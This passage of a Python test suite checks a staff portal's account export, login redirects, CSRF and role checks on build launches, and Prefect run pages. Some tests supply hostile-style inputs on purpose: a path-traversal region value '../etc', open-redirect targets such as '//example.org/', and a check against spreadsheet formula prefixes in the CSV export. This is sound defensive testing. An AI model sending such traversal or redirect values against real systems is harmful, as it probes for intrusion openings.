    data = {"name": typed, "role": "editor", "password": "a long enough passphrase", "csrf": csrf}
    assert client.post("/staff/admin/accounts", data=data, follow_redirects=False).status_code == 400
    exported = client.get("/staff/admin/audit.csv", params={"action": "account"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(exported), delimiter=";") for cell in row]
    assert "'" + typed in cells  # the name as recorded, behind the apostrophe
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_login_returns_to_the_page_asked_and_nowhere_else(fresh: Path):
    client = _client(fresh)
    target = f"/staff/drafts/{REGION}/2024/1"
    answer = client.get(target, follow_redirects=False)
    assert answer.headers["location"] == f"/staff/login?suivant={target}"
    form = client.get(answer.headers["location"])
    assert f'name="next" value="{target}"' in form.text
    for asked, landed in ((target, target), ("https://example.org/", "/staff/"), ("//example.org/", "/staff/")):
        client = _client(fresh)
        form = client.get("/staff/login")
        done = client.post(
            "/staff/login",
            data={"name": ADMIN, "password": PASSWORD, "csrf": csrf_of(form.text), "next": asked},
            follow_redirects=False,
        )
        assert done.headers["location"] == landed


# -- launching builds -----------------------------------------------------------------------------------------


def _launch(client: TestClient, csrf: str | None, **fields: str):
    data = {"region": REGION, "year": "2024", "reason": "correction d'un montant"} | fields
    if csrf is not None:
        data["csrf"] = csrf
    return client.post("/staff/builds", data=data, follow_redirects=False)


def _builds_refused(outputs: Path) -> int:
    """Anonymous refusals of the build form, counted (flows/portal/refusals.py)."""
    found = refusals.latest(store.open_catalogue(outputs).engine, 10_000)
    return sum(c.count for c in found if c.target == "POST /staff/builds")


def test_launching_a_build_is_refused_to_whom_may_not(private: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.delenv("PREFECT_API_URL", raising=False)
    earlier = len(audit_lines(private, audit.BUILD))
    anonymous_before = _builds_refused(private)  # the module's copy may hold earlier ones of this hour
    anonymous = _client(private)
    assert _launch(anonymous, None).status_code == 403  # no session's token: a forgery, whoever it is
    assert _launch(anonymous, csrf_of(anonymous.get("/staff/login").text)).status_code == 401
    approver = _client(private)
    assert _launch(approver, log_in(approver, APPROVER_ACCOUNT)).status_code == 403
    editor = _client(private)
    csrf = log_in(editor, EDITOR_ACCOUNT)
    assert _launch(editor, None).status_code == 403
    assert _launch(editor, "not-the-token").status_code == 403
    for fields in ({"region": "../etc"}, {"region": "bretagne"}, {"year": "20x4"}, {"year": "1999"}, {"reason": ""}):
        answer = _launch(editor, csrf, **fields)
        assert answer.status_code == 400, fields
        assert 'role="alert"' in answer.text
    unconfigured = _launch(editor, csrf)
    assert unconfigured.status_code == 503 and "fir serve" in unconfigured.text
    assert "aucune API Prefect" in editor.get("/staff/").text
    lines = audit_lines(private, audit.BUILD)
    builds = [(e.actor, e.outcome) for e in lines[: len(lines) - earlier]]
    assert builds == [(EDITOR_ACCOUNT, audit.FAILED)] + [(EDITOR_ACCOUNT, audit.REFUSED)] * 5
    access = [(e.actor, e.detail) for e in audit_lines(private, audit.ACCESS)[:3]]
    assert access == [
        (EDITOR_ACCOUNT, "jeton CSRF absent ou faux"),
        (EDITOR_ACCOUNT, "jeton CSRF absent ou faux"),
        (APPROVER_ACCOUNT, "réservé à qui peut lancer les constructions (compte approbateur)"),
    ]
    # the anonymous ones (the forgery, then the same form with the anonymous session's token): counted
    assert _builds_refused(private) - anonymous_before == 2


def test_a_launched_build_is_followed_on_its_run_page(shared: Path):
    client = _client(shared)
    runs = FakeRuns()
    client.app.state.portal.runs = runs  # type: ignore[attr-defined]
    csrf = log_in(client, EDITOR_ACCOUNT)
    answer = _launch(client, csrf)
    assert answer.status_code == 303
    run_id = answer.headers["location"].removeprefix("/staff/runs/")
    assert runs.launched == [
        {
            "region": REGION,
            "year": 2024,
            "reason": "correction d'un montant",
            "launched_by": EDITOR_ACCOUNT,
            "notify_failure": True,
        }
    ]
    line = audit_lines(shared, audit.BUILD)[0]
    assert (line.actor, line.outcome, line.target) == (EDITOR_ACCOUNT, audit.OK, f"{REGION} 2024")
    assert run_id in line.detail
    running = client.get(f"/staff/runs/{run_id}").text
    assert '<meta http-equiv="refresh" content="3">' in running and "en cours" in running
    assert "http-equiv" not in client.get(f"/staff/runs/{run_id}", params={"actualiser": "non"}).text
    assert f'href="http://127.0.0.1:4200/runs/flow-run/{run_id}"' in running
    # the run that built draft 2 (the tests' command-line build), as Prefect would show it once over
    built = store.open_catalogue(shared).revision(REGION, 2024, 2)["run_id"]
    runs.runs[built] = RunView(built, "COMPLETED", runs.launched[0], None)
    done = client.get(f"/staff/runs/{built}").text
    assert "http-equiv" not in done and "terminée" in done and f'href="/staff/drafts/{REGION}/2024/2"' in done
    failure = "Données invalides :\n  - mission 2 : total faux"
    runs.runs[run_id] = RunView(run_id, "FAILED", runs.launched[0], None, failure)
    failed = client.get(f"/staff/runs/{run_id}").text
    assert "échouée" in failed and "mission 2 : total faux" in failed and "http-equiv" not in failed
    assert client.get(f"/staff/runs/{uuid.uuid4()}").status_code == 404
    assert client.get("/staff/runs/not-a-uuid").status_code == 404


def test_the_prefect_api_is_the_environment_s_or_the_running_service_s(monkeypatch: pytest.MonkeyPatch):
    """`fir serve` runs the portal in a process whose environment does not name the Prefect server it started:
    the portal finds it as every command does, through the service's discovery file."""
    from flows import service
    from flows.portal.runs import PrefectRuns

    monkeypatch.delenv("PREFECT_API_URL", raising=False)
    assert PrefectRuns().api_url() is None
    found = service.ServiceInfo(1, "here", "http://127.0.0.1:4299/api", "", "", "", "")
    monkeypatch.setattr(service, "running_service", lambda home=None: found)
    assert PrefectRuns().api_url() == "http://127.0.0.1:4299/api"
    monkeypatch.setenv("PREFECT_API_URL", "http://127.0.0.1:4300/api")
    assert PrefectRuns().api_url() == "http://127.0.0.1:4300/api"
